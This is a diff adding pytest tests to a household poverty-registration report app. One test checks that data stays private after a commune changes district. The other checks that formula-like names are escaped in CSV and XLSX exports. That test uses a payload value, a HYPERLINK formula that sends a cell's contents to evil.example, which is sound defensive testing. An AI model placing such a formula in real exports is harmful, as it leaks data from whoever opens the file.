@@ -13,7 +13,7 @@ import pytest
 from openpyxl import load_workbook
 
 from projections.figures import FIGURES
-from tests.api.conftest import Api, Household, registration, survey
+from tests.api.conftest import HEAD, Api, Household, registration, survey
 from tests.web.conftest import PASSWORD, Browser
 
 XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
@@ -158,3 +158,51 @@ def test_the_headers_follow_the_readers_language(pages: Browser, poor_household:
     rows = csv_rows(pages.get("/reports/poor.csv"))
 
     assert rows[0] == ["Household code", "Head of household", "Commune", "Village", "Status since"]
+
+
+def test_a_commune_that_moved_district_is_not_listed_for_its_former_district_today(
+    pages: Browser, api: Api
+) -> None:
+    """Commune 11587 moved from district 312 to district 303 on 2025-01-01: a supervisor of
+    312 picking a date before the move still gets no list of its households as they are today."""
+    body = registration(household_code="MV-0001", commune_code="11587", effective_date="2025-03-01")
+    household_id = api.created("/api/households", body, who="district_caseworker")["id"]
+    path = f"/api/households/{household_id}"
+    api.created(path + "/surveys", survey(survey_id="S-M", effective_date="2025-10-01"),
+                who="district_caseworker")  # fmt: skip
+    decision = {"survey_id": "S-M", "effective_date": "2025-12-20"}
+    api.created(path + "/classifications", decision, who="district_caseworker")
+    pages.api.system.accounts.add_user("supervisor_312", "supervisor", "312", password=PASSWORD)
+    pages.sign_in("supervisor_312")
+
+    answers = [
+        pages.get(f"/reports/{name}", area="11587", as_of="2024-06-01")
+        for name in ("poor.csv", "near-poor.xlsx", "summary.csv")
+    ]
+
+    assert [response.status_code for response in answers] == [404, 404, 404]
+    assert all("MV-0001" not in response.text for response in answers)
+
+
+@pytest.mark.parametrize("kind", ["csv", "xlsx"])
+def test_a_name_that_looks_like_a_formula_is_downloaded_as_plain_text(
+    pages: Browser, api: Api, kind: str
+) -> None:
+    head = {**HEAD, "full_name": '=HYPERLINK("http://evil.example/?x="&A1,"Mở")'}
+    body = registration(household_code="=1+1", members=[head])
+    household_id = api.created("/api/households", body)["id"]
+    path = f"/api/households/{household_id}"
+    api.created(path + "/surveys", survey(survey_id="S-F"))
+    api.created(path + "/classifications", {"survey_id": "S-F", "effective_date": "2022-12-20"})
+    pages.sign_in("supervisor")
+
+    response = pages.get(f"/reports/poor.{kind}")
+
+    if kind == "xlsx":
+        sheet = load_workbook(BytesIO(response.content)).active
+        assert sheet is not None
+        cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row[:2]]
+        assert [cell.data_type for cell in cells] == ["s", "s"]
+        assert cells[0].value == "=1+1"
+    else:
+        assert csv_rows(response)[1][:2] == ["'=1+1", "'" + head["full_name"]]
